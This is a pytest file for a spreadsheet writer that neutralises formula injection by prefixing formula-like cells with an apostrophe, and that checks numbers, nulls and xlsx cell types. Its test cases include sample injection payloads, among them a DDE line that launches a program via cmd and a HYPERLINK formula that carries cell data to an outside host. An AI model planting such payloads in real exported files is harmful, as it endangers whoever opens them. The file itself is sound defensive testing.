"""The one CSV / .xlsx writer: formula-like text is made inert, numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from jtai_analysis.common.spreadsheet import (
    csv_text,
    is_formula_like,
    make_inert,
    write_csv,
    write_table,
    write_xlsx,
)

# (cell text, what the writer must put in the file): worked out by hand from the rule "text that
# starts with = + - @ tab or CR gets a leading apostrophe, unless it is a plain number".
CASES = [
    ('=HYPERLINK("http://x.example"&A1;"click")', '\'=HYPERLINK("http://x.example"&A1;"click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-3", "-3"),
    ("+4.5", "+4.5"),
    ("-1e3", "-1e3"),
    ("-", "'-"),
    ("WBRI", "WBRI"),
    ("Team = A", "Team = A"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "written"), CASES, ids=[repr(c[0]) for c in CASES])
def test_make_inert(text: str, written: str) -> None:
    assert make_inert(text) == written
    assert is_formula_like(text) == (written != text)


def test_a_number_with_a_trailing_line_break_is_not_a_plain_number() -> None:
    assert make_inert("-3\n") == "'-3\n"


def _frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "child_id": [c[0] for c in CASES],
            "count": list(range(-7, len(CASES) - 7)),
            "rate": [-1.5] * len(CASES),
            "when": [dt.date(2026, 11, 16)] * len(CASES),
        }
    )


def test_csv_cells_are_inert_and_numbers_stay_numbers(tmp_path: Path) -> None:
    path = write_csv(_frame(), tmp_path / "deep" / "out.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["child_id", "count", "rate", "when"]
    assert [r[0] for r in rows[1:]] == [c[1] for c in CASES]
    assert rows[1][1:] == ["-7", "-1.5", "2026-11-16"]  # negative numbers written as numbers


def test_csv_nulls_stay_empty_and_lists_are_joined(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {"id": [None, "=1"], "lists": [["=A", "B"], []]},
        schema={"id": pl.String, "lists": pl.List(pl.String)},
    )
    text = csv_text(frame)
    assert text == "id,lists\n,'=A; B\n'=1,\"\"\n"  # an empty list is empty text, not a null


def test_categorical_text_and_column_names_are_made_inert() -> None:
    frame = pl.DataFrame({"=bad": ["@x", "ok"]}).with_columns(pl.col("=bad").cast(pl.Categorical))
    assert csv_text(frame) == "'=bad\n'@x\nok\n"


def test_xlsx_cells_are_text_or_numbers_never_formulas(tmp_path: Path) -> None:
    frame = _frame().with_columns(pl.lit(float("nan")).alias("nan"))
    path = write_xlsx(
        {"Quarantine": frame, "Second": pl.DataFrame({"n": [1]})}, tmp_path / "o.xlsx"
    )
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Quarantine", "Second"]
    sheet = book["Quarantine"]
    cells = list(sheet.iter_rows(values_only=False))
    assert [c.value for c in cells[0]] == ["child_id", "count", "rate", "when", "nan"]
    # xlsx stores a carriage return as _x000D_, which Excel reads back as the character
    shown = [str(row[0].value).replace("_x000D_", "\r") for row in cells[1:]]
    assert shown == [c[1] for c in CASES]
    assert all(row[0].data_type in ("s", "n") for row in cells[1:])  # never "f" (formula)
    assert (cells[1][1].value, cells[1][1].data_type) == (-7, "n")
    assert (cells[1][2].value, cells[1][2].data_type) == (-1.5, "n")
    assert cells[1][3].value == "2026-11-16"
    assert (cells[1][4].value, cells[1][4].data_type) == ("nan", "s")  # as the CSV says: never 0


def test_write_table_chooses_by_suffix(tmp_path: Path) -> None:
    frame = pl.DataFrame({"team": ["+Team 1"]})
    assert write_table(frame, tmp_path / "a.csv").read_text() == "team\n'+Team 1\n"
    book = openpyxl.load_workbook(write_table(frame, tmp_path / "a.xlsx", sheet_name="Teams"))
    assert book["Teams"]["A2"].value == "'+Team 1"
